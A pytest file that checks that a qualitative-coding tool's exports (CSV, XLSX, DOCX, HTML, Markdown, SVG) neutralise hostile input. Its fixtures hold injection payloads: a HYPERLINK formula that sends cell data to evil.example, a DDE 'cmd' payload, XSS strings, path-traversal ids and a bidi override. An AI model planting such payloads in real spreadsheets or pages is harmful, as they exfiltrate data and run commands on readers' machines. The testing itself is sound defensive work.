"""User text is inert in every output, and file names made from ids stay in the chosen folder.

One hostile codings table (formulas, HTML and script, Markdown links, mathtext, control
characters, path-like and device-like ids) goes through ``qualcode export results``; each test
inspects one kind of file it wrote.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from typer.testing import CliRunner

from qualcode.cli.app import app
from qualcode.report.safety import FORMULA_PREFIXES

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DOCUMENTS = ["../../escape", "a/b", "a_b", "CON", "<script>alert(1)</script>",
             "=cmd|' /C calc'!A0", "$\\frac{1}{$", "nul\x01byte"]
CODES = ["enabler", FORMULA, "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
         "$\\undefined{$", "a|b"]
TEXTS = ["=1+1", "<script>alert('t')</script>", "![img](http://evil.example/x.png) | cell |",
         '{ HYPERLINK "http://evil.example" }', "@SUM(A1)", "-2+3", "+7", "tab\tvt\x0bend",
         "# heading\n- item\n1. first", "<a href=\"javascript:alert(1)\">x</a>"]
ATTRIBUTE = "=cmd|' /C calc'!A0"
SPEAKER = "<b>Rina</b> \u202egnub"  # a right-to-left override left open


@pytest.fixture(scope="module")
def results(tmp_path_factory, time_limit) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    codings = root / "codings.csv"
    rows = []
    for i, doc in enumerate(DOCUMENTS):
        for j, code in enumerate(CODES):
            rows.append({"document": doc, "case": doc, "segment": str(j), "start": "0",
                         "end": "5", "speaker": SPEAKER, "code": code, "code_path": code,
                         "group": "role" if j % 2 else "<i>stage</i>", "coder": "=evil()",
                         "source": "manual", "rule": "", "match": "",
                         "text": TEXTS[(i + j) % len(TEXTS)], ATTRIBUTE: "<svg onload=x>",
                         "informant_role": "=role()" if i % 2 else "<b>x</b>"})
    with codings.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    out = root / "out" / "results"
    with time_limit(120):
        result = CliRunner().invoke(app, ["export", "results", str(codings), "-o", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _cells_are_inert(cells):
    for cell in cells:
        if isinstance(cell, str) and cell:
            assert not cell.startswith(FORMULA_PREFIXES), repr(cell)


def test_csv_cells_and_headers_are_inert(results):
    files = sorted(results.glob("*.csv"))
    assert len(files) >= 10
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            _cells_are_inert(row)
    header = (results / "codings.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.endswith(f",'{ATTRIBUTE},informant_role")
    assert "'=cmd|' /C calc'!A0" in (results / "code_by_document.csv").read_text("utf-8")


def test_xlsx_has_no_formulas(results):
    from openpyxl import load_workbook

    book = load_workbook(results / "tables.xlsx")
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = (sheet.title, cell.coordinate, cell.value)
                assert cell.data_type not in ("f", "e"), where
                # the text as it is, in a text cell that stays text when edited
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    assert cell.data_type == "s" and cell.quotePrefix, where
                seen += isinstance(cell.value, str) and cell.value.startswith("=")
    assert seen > 10
    with zipfile.ZipFile(results / "tables.xlsx") as archive:
        assert not [n for n in archive.namelist() if "externalLink" in n or "vbaProject" in n]
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not [n for n in sheets if re.search(rb"<f[ >]", archive.read(n))]


def test_docx_holds_text_only(results):
    with zipfile.ZipFile(results / "theme_table.docx") as archive:
        body = archive.read("word/document.xml").decode("utf-8")
        rels = archive.read("word/_rels/document.xml.rels").decode("utf-8")
    for element in ("w:fldSimple", "w:instrText", "w:fldChar", "w:hyperlink", "w:object",
                    "w:altChunk"):
        assert f"<{element}" not in body
    assert "TargetMode" not in rels  # no external targets (links, images, templates)
    assert "&lt;script&gt;alert('t')&lt;/script&gt;" in body  # as text
    assert '{ HYPERLINK "http://evil.example" }' in body  # as text, not a field
    assert "\x0b" not in body and "\x01" not in body


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def test_html_report_is_escaped_everywhere(results):
    page = (results / "report.html").read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(page)
    allowed = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "nav", "a",
               "section", "figure", "img", "figcaption", "div", "table", "thead", "tbody", "tr",
               "th", "td", "p", "strong", "br", "small", "blockquote"}
    assert {tag for tag, _ in parser.tags} <= allowed
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            if name == "href":
                assert re.fullmatch(r"#s\d+", value or ""), value
            if name == "src":
                assert (value or "").startswith("data:image/svg+xml;base64,"), value[:40]
    assert "script-src" not in page and "default-src 'none'" in page  # CSP forbids scripts
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_markdown_escapes_html_links_and_tables(results):
    text = (results / "theme_table.md").read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text and "<a " not in text
    assert "](javascript:" not in text.replace("\\](javascript:", "")
    assert "![img](" not in text
    assert "\\[x\\](javascript:alert(1))" in text
    assert "a\\|b" in text
    columns = 0
    for line in text.splitlines():  # every table row keeps the cells of its header
        if line.startswith("|"):
            cells = len(re.findall(r"(?<!\\)\|", line))
            columns = columns or cells
            assert cells == columns, line
        else:
            columns = 0


def test_bidi_overrides_end_with_their_text(results):
    # an override left open in a quote would reverse what a reader shows after it (the
    # attribution, the next cell): each is closed before the next tag, line or Word run
    page = (results / "report.html").read_text(encoding="utf-8")
    markdown = (results / "theme_table.md").read_text(encoding="utf-8")
    assert "\u202e" in page and "\u202e" in markdown
    for found in re.finditer("\u202e[^<\u202c]*", page):
        assert page[found.end()] == "\u202c", found.group(0)
    for line in markdown.splitlines():
        assert line.count("\u202e") == line.count("\u202c"), line
    with zipfile.ZipFile(results / "theme_table.docx") as archive:
        body = archive.read("word/document.xml").decode("utf-8")
    runs = re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", body)
    assert any("\u202e" in run for run in runs)
    for run in runs:  # each run of text closes what it opens
        assert run.count("\u202e") == run.count("\u202c"), run


def test_svg_charts_hold_no_markup_from_the_data(results):
    svgs = sorted(results.glob("charts/**/*.svg"))
    assert len(svgs) > 10
    for path in svgs:
        root = ElementTree.fromstring(path.read_bytes())
        for element in root.iter():
            name = element.tag.rsplit("}", 1)[-1]
            assert name not in ("script", "foreignObject", "a"), path
            assert not [a for a in element.attrib if a.startswith("on")], path


def test_file_names_from_ids_stay_in_the_folder_and_never_collide(results):
    outside = sorted(p.name for p in results.parent.parent.iterdir())
    assert outside == ["codings.csv", "out"]  # nothing escaped next to or above the output
    assert sorted(p.name for p in results.parent.iterdir()) == ["results"]
    portraits = sorted(p.stem for p in (results / "charts" / "portraits").glob("*.png"))
    assert portraits == ["CON_", "a_b", "a_b_2", "cmd_C_calc_A0", "escape", "frac_1",
                         "nul_byte", "script_alert_1_script"]
    for path in results.rglob("*"):
        assert path.resolve().is_relative_to(results.resolve())


def test_provenance_is_plain_json(results):
    data = json.loads((results / "provenance.json").read_text(encoding="utf-8"))
    assert data["coders"] == ["=evil()"]  # JSON is not a spreadsheet: kept as written
